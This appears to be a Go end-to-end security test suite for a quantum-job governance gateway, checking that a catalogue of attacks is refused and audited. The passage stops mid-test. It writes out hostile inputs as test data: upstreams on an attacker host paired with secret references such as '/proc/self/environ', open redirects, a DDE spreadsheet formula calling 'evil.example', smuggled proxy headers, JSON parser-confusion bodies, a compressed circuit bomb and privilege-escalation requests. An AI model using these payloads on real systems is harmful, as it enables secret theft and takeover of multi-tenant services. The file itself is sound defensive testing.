package e2e

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/qgov/qgov/audit"
	"github.com/qgov/qgov/ibm/runtimeapi"
	"github.com/qgov/qgov/internal/circuittest"
	"github.com/qgov/qgov/internal/qiskitclient"
	"github.com/qgov/qgov/internal/testenv"
	"github.com/qgov/qgov/simulator"
	"github.com/qgov/qgov/simulator/appid"
)

// attackWorld is the demo as the attacks against it were first tried:
// the operator (demo-admin-key) has created tenants acme and beta, each
// with an instance and a project; eve administers acme, mallory beta,
// and dora the default tenant, none of them with platform:manage. A
// local listener stands in for an attacker's host, and QR-rec reaches
// the simulator through a recorder of what the upstream is sent.
type attackWorld struct {
	*demo
	eve, mallory, dora string // their API keys
	attacker           *httptest.Server
	corp               string // the issuer of a second identity provider, whose users are not the demo's
	attackerHits       atomic.Int64
	recorder           *recorder
	started            time.Time
}

// recorder is an upstream that records each request's headers and
// forwards it to the simulator.
type recorder struct {
	srv    *httptest.Server
	target atomic.Pointer[url.URL]
	mu     sync.Mutex
	seen   []http.Header
}

func newRecorder(t *testing.T) *recorder {
	rec := &recorder{}
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(rec.target.Load()) }}
	rec.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.mu.Lock()
		rec.seen = append(rec.seen, r.Header.Clone())
		rec.mu.Unlock()
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(rec.srv.Close)
	return rec
}

// headers returns the headers of every request the upstream was sent.
func (rec *recorder) headers() []http.Header {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return append([]http.Header(nil), rec.seen...)
}

func startAttackWorld(t *testing.T) *attackWorld {
	w := &attackWorld{recorder: newRecorder(t), started: time.Now()}
	w.attacker = httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.attackerHits.Add(1)
		_, _ = io.WriteString(rw, `{"access_token":"stolen","expires_in":3600,"id":"x"}`)
	}))
	t.Cleanup(w.attacker.Close)

	corp, err := appid.New(appid.Default())
	require.NoError(t, err)
	corpSrv := httptest.NewServer(corp)
	t.Cleanup(corpSrv.Close)
	w.corp = corpSrv.URL + corp.BasePath()

	dir := t.TempDir()
	sim := simulator.Default()
	for _, name := range []string{"qr-acme", "qr-beta", "qr-rec", "qr-acme2"} {
		sim.Instances = append(sim.Instances, simulator.InstanceConfig{Name: name, CRN: simulator.DemoCRN(name), APIKeys: []string{simulator.DemoAPIKey}})
	}
	raw, err := json.Marshal(sim)
	require.NoError(t, err)
	simFile := filepath.Join(dir, "sim.json")
	require.NoError(t, os.WriteFile(simFile, raw, 0o600))
	rec := w.recorder.srv.URL
	w.demo = startDemoEdited(t, func(cfg string) string {
		return strings.NewReplacer(
			"store bolt\n", "store bolt "+filepath.Join(dir, "qgov.db")+"\n",
			"qgov_simulator {\n", "qgov_simulator {\n\t\tconfig "+simFile+"\n",
			"\t\tinstance QR-ml {\n", fmt.Sprintf("\t\tinstance QR-rec {\n\t\t\tcrn %s\n\t\t\tupstream %s/api/v1\n\t\t\tiam_url %s\n\t\t\tcredential simulator\n\t\t}\n\t\tinstance QR-ml {\n",
				simulator.DemoCRN("qr-rec"), rec, rec),
			"instances QR-ml QR-common\n", "instances QR-ml QR-common QR-rec\n",
			"\t\tidentity_provider appid {", fmt.Sprintf("\t\tidentity_provider corp {\n\t\t\tissuer %s\n\t\t\tclient_id %s\n\t\t}\n\t\tidentity_provider appid {", w.corp, appid.DemoClientID),
		).Replace(cfg)
	})
	target, _ := url.Parse(w.sim)
	w.recorder.target.Store(target)

	op := "demo-admin-key"
	for _, step := range []struct{ path, body string }{
		{"/governance/v1/tenants?tenant_id=acme", `{"name":"acme","api_key_creation":true}`},
		{"/governance/v1/tenants?tenant_id=beta", `{"name":"beta","api_key_creation":true}`},
		{"/governance/v1/instances?tenant_id=acme", w.instance("QR-acme", "qr-acme", w.sim)},
		{"/governance/v1/instances?tenant_id=beta", w.instance("QR-beta", "qr-beta", w.sim)},
		{"/governance/v1/projects?tenant_id=acme", `{"name":"research","instances":["QR-acme"]}`},
		{"/governance/v1/projects?tenant_id=beta", `{"name":"lab","instances":["QR-beta"]}`},
		{"/governance/v1/assignments?tenant_id=acme", `{"user":"eve","role":"admin"}`},
		{"/governance/v1/assignments?tenant_id=beta", `{"user":"mallory","role":"admin"}`},
		{"/governance/v1/assignments", `{"user":"dora","role":"admin"}`},
	} {
		status, body := w.call(op, http.MethodPost, step.path, step.body)
		require.Equal(t, http.StatusCreated, status, "%s: %s", step.path, body)
	}
	w.eve = w.mintKey(t, op, `{"name":"eve","user":"eve","tenant_id":"acme"}`)
	w.mallory = w.mintKey(t, op, `{"name":"mallory","user":"mallory","tenant_id":"beta"}`)
	w.dora = w.mintKey(t, op, `{"name":"dora","user":"dora"}`)
	return w
}

// instance is an instance object on the simulator, by its credential.
func (w *attackWorld) instance(alias, crnName, base string) string {
	return fmt.Sprintf(`{"alias":%q,"crn":%q,"upstream":%q,"iam_url":%q,"credential":"simulator","backends":["qgov_simulator","ibm_qgov_eagle"]}`,
		alias, simulator.DemoCRN(crnName), base+"/api/v1", base)
}

// mintKey creates an API key through the governance API and returns it.
func (w *attackWorld) mintKey(t *testing.T, key, body string) string {
	status, out := w.call(key, http.MethodPost, "/governance/v1/keys", body)
	require.Equal(t, http.StatusCreated, status, out)
	var k struct {
		Key string `json:"key"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &k))
	return k.Key
}

// call sends a request to the gateway with an API key and extra headers
// (name, value, …), and returns the status and the body.
func (w *attackWorld) call(key, method, path, body string, header ...string) (int, string) {
	req, _ := http.NewRequest(method, w.gateway+path, strings.NewReader(body))
	req.Header.Set("Authorization", "apikey "+key)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(out)
}

// code is the error code of a Runtime API or governance error body.
func code(body string) string {
	var eb struct {
		Errors []struct {
			Code string `json:"code"`
		} `json:"errors"`
	}
	if json.Unmarshal([]byte(body), &eb) != nil || len(eb.Errors) == 0 {
		return ""
	}
	return eb.Errors[0].Code
}

// denials queries a tenant's trail as its administrator.
func (w *attackWorld) denials(t *testing.T, key, query string) []audit.Record {
	status, body := w.call(key, http.MethodGet, "/governance/v1/audit/logs?page_size=1000&"+query, "")
	require.Equal(t, http.StatusOK, status, body)
	var page struct {
		Logs []audit.Record `json:"logs"`
	}
	require.NoError(t, json.Unmarshal([]byte(body), &page))
	return page.Logs
}

// state is what an attack must leave as it was: who holds what, the
// governance objects, the upstream's jobs and the attacker's inbox.
func (w *attackWorld) state(t *testing.T) string {
	var b strings.Builder
	for _, who := range []struct{ user, tenant string }{{"eve", "acme"}, {"mallory", "beta"}, {"dora", "default"}, {"admin", "default"}, {"fatima", "default"}} {
		_, out := w.call("demo-admin-key", http.MethodGet, "/governance/v1/users/"+who.user+"/roles?tenant_id="+who.tenant, "")
		b.WriteString(out)
	}
	for _, kind := range []string{"roles", "instances", "assignments", "policies", "workflows", "access_groups"} {
		for _, tenant := range []string{"default", "acme", "beta"} {
			_, out := w.call("demo-admin-key", http.MethodGet, "/governance/v1/"+kind+"?tenant_id="+tenant, "")
			b.WriteString(out)
		}
	}
	fmt.Fprintf(&b, "upstream jobs %d %d %d; attacker hits %d", w.upstreamJobs(t, "QR-ml"), w.upstreamJobs(t, "QR-common"),
		w.upstreamJobs(t, "QR-acme"), w.attackerHits.Load())
	return b.String()
}

// refused checks an attack: the refusal's status and code, and that
// nothing changed.
func (w *attackWorld) refused(t *testing.T, status int, wantCode string, attack func() (int, string)) {
	t.Helper()
	before := w.state(t)
	got, body := attack()
	assert.Equal(t, status, got, body)
	assert.Equal(t, wantCode, code(body), body)
	assert.Less(t, got, 500, "a decision is never a 5xx")
	assert.Equal(t, before, w.state(t), "the attack changed nothing")
}

// TestAttacks runs each attack that broke qgov's promises against a real
// gateway in front of the real simulator: each is refused with a 4xx
// naming the rule, changes nothing, and is audited as denied.
func TestAttacks(t *testing.T) {
	w := startAttackWorld(t)
	ctx := context.Background()

	t.Run("a tenant admin makes herself operator", func(t *testing.T) {
		for _, body := range []struct{ path, body string }{
			{"/governance/v1/assignments", `{"user":"eve","role":"operator"}`},
			{"/governance/v1/roles", `{"name":"superuser","permissions":["platform:manage"]}`},
			{"/governance/v1/roles", `{"name":"opcopy","inherits":["operator"]}`},
		} {
			w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) { return w.call(w.eve, http.MethodPost, body.path, body.body) })
		}
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(w.eve, http.MethodPost, "/governance/v1/apply?tenant_id=acme", "assignments:\n  - {user: eve, role: operator, tenant: acme}\n")
		})
		w.refused(t, http.StatusForbidden, "tenant_not_accessible", func() (int, string) {
			return w.call(w.eve, http.MethodPatch, "/governance/v1/tenants/default", `{"api_key_creation":true}`, "If-Match", "*")
		})
		status, body := w.call(w.eve, http.MethodPost, "/governance/v1/roles", `{"name":"ml-auditor","permissions":["audit:view","job:view:tenant"]}`)
		assert.Equal(t, http.StatusCreated, status, "a role within what she holds: %s", body)
	})

	t.Run("a tenant admin steals the gateway's secrets", func(t *testing.T) {
		evil := func(extra string) string {
			return `{"alias":"QR-evil","crn":"` + simulator.DemoCRN("qr-evil") + `","upstream":"` + w.attacker.URL + `/api/v1","iam_url":"` + w.attacker.URL + `"` + extra + `}`
		}
		for _, key := range []string{`,"api_key":"{env.QGOV_DEMO_OIDC_SECRET}"`, `,"api_key":"{file./proc/self/environ}"`, `,"api_key":"literal"`} {
			w.refused(t, http.StatusBadRequest, "secret_not_allowed", func() (int, string) { return w.call(w.eve, http.MethodPost, "/governance/v1/instances", evil(key)) })
		}
		w.refused(t, http.StatusForbidden, "host_not_allowed", func() (int, string) {
			return w.call(w.eve, http.MethodPost, "/governance/v1/instances", evil(`,"credential":"simulator"`))
		})
		status, body := w.call(w.eve, http.MethodPost, "/governance/v1/instances", w.instance("QR-acme2", "qr-acme2", w.sim))
		require.Equal(t, http.StatusCreated, status, body)
		w.refused(t, http.StatusForbidden, "host_not_allowed", func() (int, string) {
			return w.call(w.eve, http.MethodPatch, "/governance/v1/instances/QR-acme2", `{"iam_url":"`+w.attacker.URL+`"}`, "If-Match", "*")
		})
		status, body = w.call(w.eve, http.MethodGet, "/api/v1/backends", "", "Service-CRN", "QR-acme")
		assert.Equal(t, http.StatusOK, status, body)
		assert.Zero(t, w.attackerHits.Load(), "nothing was sent to the attacker's host")
	})

	t.Run("a key for someone more powerful", func(t *testing.T) {
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(w.dora, http.MethodPost, "/governance/v1/keys", `{"name":"x","user":"admin"}`)
		})
		status, body := w.call(w.dora, http.MethodPost, "/governance/v1/keys", `{"name":"for-fatima","user":"fatima"}`)
		assert.Equal(t, http.StatusCreated, status, "a key for someone within her reach: %s", body)
	})

	t.Run("apply cannot skip the checks of the object routes", func(t *testing.T) {
		role := `{"name":"ml-auditor","permissions":["audit:view","job:view:tenant","job:cancel:tenant"]}`
		w.refused(t, http.StatusForbidden, "not_owner", func() (int, string) {
			return w.call(w.mallory, http.MethodPut, "/governance/v1/roles/ml-auditor", role, "If-Match", "*")
		})
		w.refused(t, http.StatusForbidden, "not_owner", func() (int, string) {
			return w.call(w.mallory, http.MethodPost, "/governance/v1/apply?tenant_id=beta",
				"roles:\n  - {name: ml-auditor, permissions: [audit:view, job:cancel:tenant]}\n")
		})
	})

	small := func(shots int) string {
		return fmt.Sprintf(`[[%q,null,%d]]`, `OPENQASM 3.0; bit[1] c; x $0; c[0] = measure $0;`, shots)
	}
	rita := "demo-rita-key" // a user who may submit only to simulators, and at most 100000 shots
	t.Run("two readings of one job", func(t *testing.T) {
		for name, body := range map[string]string{
			"case variants":    `{"program_id":"sampler","backend":"qgov_simulator","BACKEND":"ibm_qgov_eagle","params":{"PUBS":` + small(10) + `,"pubs":` + small(5000000) + `}}`,
			"duplicate names":  `{"program_id":"sampler","backend":"qgov_simulator","backend":"ibm_qgov_eagle","params":{"pubs":` + small(10) + `}}`,
			"unicode folding":  `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":` + small(10) + `,"ſhots":5000000}}`,
			"trailing brace":   `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":` + small(10) + `}}}`,
			"trailing bracket": `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":` + small(10) + `}}]`,
			"invalid UTF-8":    "{\"program_id\":\"sampler\",\"backend\":\"qgov_simulator\",\"tags\":[\"\xff\"],\"params\":{\"pubs\":" + small(10) + "}}",
		} {
			t.Run(name, func(t *testing.T) {
				w.refused(t, http.StatusBadRequest, "invalid_json", func() (int, string) {
					return w.call(rita, http.MethodPost, "/api/v1/jobs", body, "Service-CRN", "QR-ml", "Content-Type", "application/json")
				})
			})
		}
		good := `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":` + small(10) + `}}`
		w.refused(t, http.StatusBadRequest, "invalid_json", func() (int, string) {
			return w.call(rita, http.MethodPost, "/api/v1/jobs", good, "Service-CRN", "QR-ml", "Content-Type", "application/x-www-form-urlencoded")
		})
		w.refused(t, http.StatusUnsupportedMediaType, "unsupported_content_encoding", func() (int, string) {
			return w.call(rita, http.MethodPost, "/api/v1/jobs", good, "Service-CRN", "QR-ml", "Content-Type", "application/json", "Content-Encoding", "gzip")
		})
	})

	t.Run("a charge dodged by deleting", func(t *testing.T) {
		fatima := w.client("demo-fatima-key", "QR-ml")
		spent := func() float64 {
			var doc struct {
				Qgov struct {
					Budgets []struct {
						Scope    string  `json:"scope"`
						SpentUSD float64 `json:"spent_usd"`
					} `json:"budgets"`
				} `json:"qgov"`
			}
			require.NoError(t, fatima.JSON(ctx, http.MethodGet, "/instances/usage", nil, &doc))
			for _, b := range doc.Qgov.Budgets {
				if b.Scope == "project" {
					return b.SpentUSD
				}
			}
			t.Fatal("no project budget")
			return 0
		}
		before := spent()
		job, err := fatima.Submit(ctx, hardwareJob())
		require.NoError(t, err)
		upstream := &qiskitclient.Client{BaseURL: w.sim, APIKey: simulator.DemoAPIKey, CRN: crn("QR-ml")}
		done, err := upstream.Wait(ctx, job.ID, 20*time.Millisecond) // read upstream: the gateway sees no end
		require.NoError(t, err)
		_, err = fatima.Results(ctx, job.ID)
		require.NoError(t, err)
		require.NoError(t, fatima.JSON(ctx, http.MethodDelete, "/jobs/"+job.ID, nil, nil))
		assert.InDelta(t, done.Usage.QuantumSeconds*1.60, spent()-before, 0.01, "charged its usage, not $0")
		assert.Greater(t, spent()-before, 0.5)
	})

	t.Run("a job passed off as another's by its tracking tag", func(t *testing.T) {
		forged := `{"program_id":"sampler","backend":"qgov_simulator","tags":["` + runtimeapi.TrackTag("someone-elses-job") + `"],"params":{"pubs":` + small(10) + `}}`
		w.refused(t, http.StatusBadRequest, "reserved_tag", func() (int, string) {
			return w.call("demo-fatima-key", http.MethodPost, "/api/v1/jobs", forged, "Service-CRN", "QR-ml", "Content-Type", "application/json")
		})
		job, err := w.client("demo-fatima-key", "QR-ml").Submit(ctx, bellJob("mine"))
		require.NoError(t, err)
		w.refused(t, http.StatusBadRequest, "reserved_tag", func() (int, string) {
			return w.call("demo-fatima-key", http.MethodPut, "/api/v1/jobs/"+job.ID+"/tags", `{"tags":["mine","`+runtimeapi.TrackTag("x")+`"]}`,
				"Service-CRN", "QR-ml", "Content-Type", "application/json")
		})
		status, body := w.call("demo-fatima-key", http.MethodPut, "/api/v1/jobs/"+job.ID+"/tags", `{"tags":["mine","ours"]}`,
			"Service-CRN", "QR-ml", "Content-Type", "application/json")
		assert.Equal(t, http.StatusNoContent, status, body)
	})

	t.Run("one request, bounded memory", func(t *testing.T) {
		instrs := make([]circuittest.Instr, 1<<20-8)
		for i := range instrs {
			instrs[i] = circuittest.Instr{Class: "HGate", Qubits: []uint32{0}}
		}
		instrs = append(instrs, circuittest.Instr{Class: "Measure", Qubits: []uint32{0}, Clbits: []uint32{0}})
		var z bytes.Buffer
		zw := zlib.NewWriter(&z)
		_, _ = zw.Write(circuittest.Build(13, 1, 1, []circuittest.Reg{{Name: "c", Bits: []int64{0}}}, instrs))
		_ = zw.Close()
		body := `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":[[{"__type__":"QuantumCircuit","__value__":"` +
			base64.StdEncoding.EncodeToString(z.Bytes()) + `"},null,10]]}}`
		var status int
		var out string
		peak := testenv.PeakHeap(func() {
			status, out = w.call("demo-fatima-key", http.MethodPost, "/api/v1/jobs", body, "Service-CRN", "QR-ml")
		})
		assert.Equal(t, http.StatusForbidden, status, out)
		assert.Equal(t, "limit_exceeded", code(out), "a million gates are deeper than max_circuit_depth")
		assert.Less(t, peak, uint64(64<<20), "heap beyond the request (the first gateway took 374 MB)")
		w.refused(t, http.StatusForbidden, "job_size_unknown", func() (int, string) {
			return w.call("demo-fatima-key", http.MethodPost, "/api/v1/jobs", `{"program_id":"sampler","params":{"pubs":[["`+
				strings.Repeat(";", 200<<10)+`"]]}}`, "Service-CRN", "QR-ml")
		})
	})

	t.Run("depth hidden in gate definitions", func(t *testing.T) {
		job := func(src string) string {
			return `{"program_id":"sampler","backend":"qgov_simulator","params":{"pubs":[[` + fmt.Sprintf("%q", src) + `,null,10]]}}`
		}
		for name, tc := range map[string]struct {
			src, code string
		}{
			"inline":         {"OPENQASM 3.0; bit c; " + strings.Repeat("h $0; ", 1200) + "c = measure $0;", "limit_exceeded"},
			"in a gate":      {"OPENQASM 3.0; bit c; gate deep q {" + strings.Repeat(" h q;", 1200) + " } deep $0; c = measure $0;", "limit_exceeded"},
			"nested gates":   {circuittest.Nested(4, 7), "limit_exceeded"},
			"past the bound": {circuittest.Nested(8, 7), "job_size_unknown"},
		} {
			t.Run(name, func(t *testing.T) {
				w.refused(t, http.StatusForbidden, tc.code, func() (int, string) {
					return w.call("demo-fatima-key", http.MethodPost, "/api/v1/jobs", job(tc.src), "Service-CRN", "QR-ml")
				})
			})
		}
	})

	t.Run("open redirects", func(t *testing.T) {
		noRedirect := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		for _, path := range []string{"/auth/logout?return_to=/%09/evil.example", "/auth/login?provider=appid&return_to=/%09/evil.example",
			"/auth/login?provider=appid&return_to=%2F%5Cevil.example", "/auth/logout?return_to=https://evil.example/"} {
			resp, err := noRedirect.Get(w.gateway + path)
			require.NoError(t, err)
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			assert.Equal(t, http.StatusBadRequest, resp.StatusCode, "%s: %s", path, body)
			assert.Empty(t, resp.Header.Get("Location"), path)
		}
	})

	t.Run("sign-out from another site", func(t *testing.T) {
		browser := w.signIn(t, "fatima")
		resp, err := browser.Get(w.gateway + "/auth/logout")
		require.NoError(t, err)
		page, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		assert.Equal(t, http.StatusOK, resp.StatusCode)
		assert.Contains(t, string(page), `<form method="post"`, "a GET asks, and changes nothing")
		req, _ := http.NewRequest(http.MethodPost, w.gateway+"/auth/logout", nil)
		req.Header.Set("Origin", "https://evil.example")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		resp, err = browser.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusForbidden, resp.StatusCode)
		resp, err = browser.Get(w.gateway + "/auth/whoami")
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, http.StatusOK, resp.StatusCode, "still signed in")
	})

	t.Run("names another tenant squats", func(t *testing.T) {
		for _, obj := range []struct{ path, body string }{
			{"/governance/v1/workflows", `{"name":"high_cost_job","approvers":[{"role":"admin"}],"timeout_hours":1}`},
			{"/governance/v1/policies", `{"name":"high_cost_job","condition":"shots > 1","action":"block","mode":"audit"}`},
			{"/governance/v1/instances", w.instance("QR-prod", "qr-beta-prod", w.sim)},
		} {
			status, body := w.call(w.mallory, http.MethodPost, obj.path, obj.body)
			require.Equal(t, http.StatusCreated, status, "%s: %s", obj.path, body)
		}
		// the operator's next configuration declares the same names
		next := replaceOnce(t, w.config, "\t\tinstance QR-ml {\n", `		instance QR-prod {
			crn `+simulator.DemoCRN("qr-prod")+`
			upstream `+w.sim+`/api/v1
			iam_url `+w.sim+`
			credential simulator
		}
		workflow high_cost_job {
			trigger `+"`estimated_cost_usd > 1000`"+`
			approvers role admin
			timeout_hours 24
		}
		policy high_cost_job {
			condition `+"`shots > 900000`"+`
			action require_approval
			workflow high_cost_job
		}
		instance QR-ml {
`)
		w.tester.InitServer(next, "caddyfile")
		status, body := w.call("demo-admin-key", http.MethodGet, "/governance/v1/instances/QR-prod?tenant_id=beta", "")
		assert.Equal(t, http.StatusOK, status, body)
		assert.Contains(t, body, `"disabled":"`, "the squatting instance is kept but not in force")
		assert.NotEmpty(t, w.denials(t, w.mallory, "actions=qgov.governance.disabled"), "and audited in beta's trail")
		status, body = w.call(w.mallory, http.MethodGet, "/governance/v1/policies/high_cost_job", "")
		assert.Equal(t, http.StatusOK, status, "beta's policy of that name is in force beside the configuration's: %s", body)
		assert.NotContains(t, body, `"disabled"`)
	})

	t.Run("headers meant for the gateway", func(t *testing.T) {
		status, body := w.call("demo-fatima-key", http.MethodGet, "/api/v1/backends", "", "Service-CRN", "QR-rec",
			"X-HTTP-Method-Override", "DELETE", "X-Original-URL", "/admin", "Forwarded", "for=6.6.6.6", "X-Forwarded-Host", "evil.example",
			"Cookie", "qgov_session=x", "Qgov-Project", "ml", "X-Qx-Client-Application", "qiskit-version-2/qiskit_ibm_runtime-0.49.0/qiskit")
		require.Equal(t, http.StatusOK, status, body)
		seen := w.recorder.headers()
		require.NotEmpty(t, seen)
		last := seen[len(seen)-1]
		for _, h := range []string{"X-Http-Method-Override", "X-Original-Url", "Forwarded", "Cookie", "Qgov-Project"} {
			assert.Empty(t, last.Get(h), "%s reached the upstream", h)
		}
		assert.NotEqual(t, "evil.example", last.Get("X-Forwarded-Host"))
		assert.Equal(t, "qiskit-version-2/qiskit_ibm_runtime-0.49.0/qiskit", last.Get("X-Qx-Client-Application"), "the client's own headers pass")
	})

	t.Run("formulas in a report", func(t *testing.T) {
		formula := `=cmd|'evil.example'!A0` // a name without spaces, commas or '/'
		group := fmt.Sprintf(`{"name":%q,"rules":[{"provider":"appid","claim":"project","operator":"has_word","value":"research"}],"projects":["research"],"roles":["viewer"]}`, formula)
		status, body := w.call(w.eve, http.MethodPost, "/governance/v1/access_groups?tenant_id=acme", group)
		require.Equal(t, http.StatusCreated, status, body)
		status, body = w.call(w.eve, http.MethodGet, "/governance/v1/reports/access_review?tenant_id=acme&format=csv&period="+time.Now().UTC().Format("2006-01-02"), "")
		require.Equal(t, http.StatusOK, status, body)
		formulas, found := testenv.FormulaCells(t, body, "evil.example")
		assert.Empty(t, formulas, "cells a spreadsheet runs")
		assert.NotZero(t, found, "the group's name is in the review, as text")
		status, body = w.call(w.eve, http.MethodDelete, "/governance/v1/access_groups/"+url.PathEscape(formula)+"?tenant_id=acme", "", "If-Match", "*")
		require.Equal(t, http.StatusOK, status, body)
	})

	t.Run("another provider's admin", func(t *testing.T) {
		token := passwordToken(t, w.corp, "admin")
		status, body := w.call("", http.MethodGet, "/auth/whoami", "", "Authorization", "Bearer "+token)
		require.Equal(t, http.StatusOK, status, body)
		assert.Contains(t, body, `"corp.appid-admin"`, "the id is qualified by its provider")
		w.refused(t, http.StatusForbidden, "permission_denied", func() (int, string) {
			return w.call("", http.MethodPost, "/governance/v1/assignments", `{"user":"corp.appid-admin","role":"operator"}`, "Authorization", "Bearer "+token)
		})
		w.refused(t, http.StatusForbidden, "instance_not_accessible", func() (int, string) {
			return w.call("", http.MethodGet, "/api/v1/backends", "", "Authorization", "Bearer "+token, "Service-CRN", "QR-ml")
		})
	})

	t.Run("instances out of reach answer alike", func(t *testing.T) {
		_, exists := w.call(w.mallory, http.MethodGet, "/api/v1/backends", "", "Service-CRN", "QR-ml")
		_, missing := w.call(w.mallory, http.MethodGet, "/api/v1/backends", "", "Service-CRN", "QR-nothing")
		var a, b struct {
			Errors []struct{ Code, Message string } `json:"errors"`
		}
		require.NoError(t, json.Unmarshal([]byte(exists), &a))
		require.NoError(t, json.Unmarshal([]byte(missing), &b))
		assert.Equal(t, a.Errors[0].Code, b.Errors[0].Code)
		assert.Equal(t, a.Errors[0].Message, strings.ReplaceAll(b.Errors[0].Message, "QR-nothing", "QR-ml"))
	})

	t.Run("workloads of a shared instance", func(t *testing.T) {
		w.refused(t, http.StatusForbidden, "permission_denied", func() (int, string) {
			return w.call("demo-fatima-key", http.MethodGet, "/api/v1/workloads", "", "Service-CRN", "QR-common")
		})
	})

	t.Run("a tenant admin acts on the keys and sessions of someone who holds more", func(t *testing.T) {
		status, body := w.call("demo-admin-key", http.MethodPost, "/governance/v1/keys", `{"name":"admin-own","user":"admin"}`)
		require.Equal(t, http.StatusCreated, status, body)
		var k struct {
			ID string `json:"id"`
		}
		require.NoError(t, json.Unmarshal([]byte(body), &k))
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(w.dora, http.MethodPost, "/governance/v1/keys/"+k.ID+"/rotate", "")
		})
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(w.dora, http.MethodDelete, "/governance/v1/keys/"+k.ID, "")
		})
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(w.dora, http.MethodDelete, "/governance/v1/sessions?user=admin", "")
		})
	})

	t.Run("another tenant's limits, budget and instance", func(t *testing.T) {
		w.refused(t, http.StatusBadRequest, "invalid_object", func() (int, string) {
			return w.call(w.eve, http.MethodPost, "/governance/v1/limits", `{"scope":"tenant","name":"beta","max_shots_per_job":1}`)
		})
		w.refused(t, http.StatusBadRequest, "invalid_object", func() (int, string) {
			return w.call(w.eve, http.MethodPost, "/governance/v1/budgets", `{"scope":"tenant","name":"beta","monthly_limit_usd":0}`)
		})
		for _, crn := range []string{simulator.DemoCRN("qr-ml") + " ", strings.ToUpper(simulator.DemoCRN("qr-ml"))} {
			body := strings.Replace(w.instance("QR-twin", "qr-ml", w.sim), simulator.DemoCRN("qr-ml"), crn, 1)
			w.refused(t, http.StatusBadRequest, "invalid_object", func() (int, string) { return w.call(w.eve, http.MethodPost, "/governance/v1/instances", body) })
		}
	})

	t.Run("a narrowed key on the governance API", func(t *testing.T) {
		narrowed := w.mintKey(t, w.dora, `{"name":"narrow","scopes":["quantum-computing.device.read"],"projects":["ml"]}`)
		w.refused(t, http.StatusForbidden, "scope_not_granted", func() (int, string) {
			return w.call(narrowed, http.MethodPost, "/governance/v1/assignments", `{"user":"zed","role":"admin"}`)
		})
		w.refused(t, http.StatusForbidden, "user_required", func() (int, string) {
			return w.call(narrowed, http.MethodPost, "/governance/v1/keys", `{"name":"x","user":"fatima"}`)
		})
	})

	t.Run("grants that outlive, outgrow or outreach their granter", func(t *testing.T) {
		op := "demo-admin-key"
		until := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
		for _, step := range []struct{ path, body string }{
			{"/governance/v1/assignments?tenant_id=acme", `{"user":"tim","role":"admin","expires_at":"` + until + `"}`},
			{"/governance/v1/projects?tenant_id=acme", `{"name":"sandbox","instances":["QR-acme"]}`},
			{"/governance/v1/roles", `{"name":"acme-pm","permissions":["tenant:manage","role:manage","user:manage"]}`},
			{"/governance/v1/assignments?tenant_id=acme", `{"user":"pat","role":"acme-pm"}`},
			{"/governance/v1/assignments?tenant_id=acme", `{"user":"pat","role":"team_lead","project":"sandbox"}`},
		} {
			status, body := w.call(op, http.MethodPost, step.path, step.body)
			require.Equal(t, http.StatusCreated, status, "%s: %s", step.path, body)
		}
		tim := w.mintKey(t, op, `{"name":"tim","user":"tim","tenant_id":"acme"}`)
		pat := w.mintKey(t, op, `{"name":"pat","user":"pat","tenant_id":"acme"}`)
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(tim, http.MethodPatch, "/governance/v1/assignments/tim:admin", `{"expires_at":null}`, "If-Match", "*")
		})
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(tim, http.MethodPost, "/governance/v1/assignments", `{"user":"tim2","role":"admin"}`)
		})
		w.refused(t, http.StatusForbidden, "privilege_ceiling", func() (int, string) {
			return w.call(pat, http.MethodPatch, "/governance/v1/projects/research", `{"parent":"sandbox"}`, "If-Match", "*")
		})
		w.refused(t, http.StatusForbidden, "permission_denied", func() (int, string) {
			return w.call(pat, http.MethodPost, "/governance/v1/roles", `{"name":"pm-fast","inherits":["acme-pm"],"limits":{"raise":true,"max_shots_per_job":100000000}}`)
		})
	})

	t.Run("a custom role another tenant gives", func(t *testing.T) {
		status, body := w.call(w.eve, http.MethodPost, "/governance/v1/roles", `{"name":"viewer-lite","permissions":["job:view:own"]}`)
		require.Equal(t, http.StatusCreated, status, body)
		status, body = w.call(w.mallory, http.MethodPost, "/governance/v1/assignments", `{"user":"bob","role":"viewer-lite","project":"lab"}`)
		require.Equal(t, http.StatusCreated, status, body)
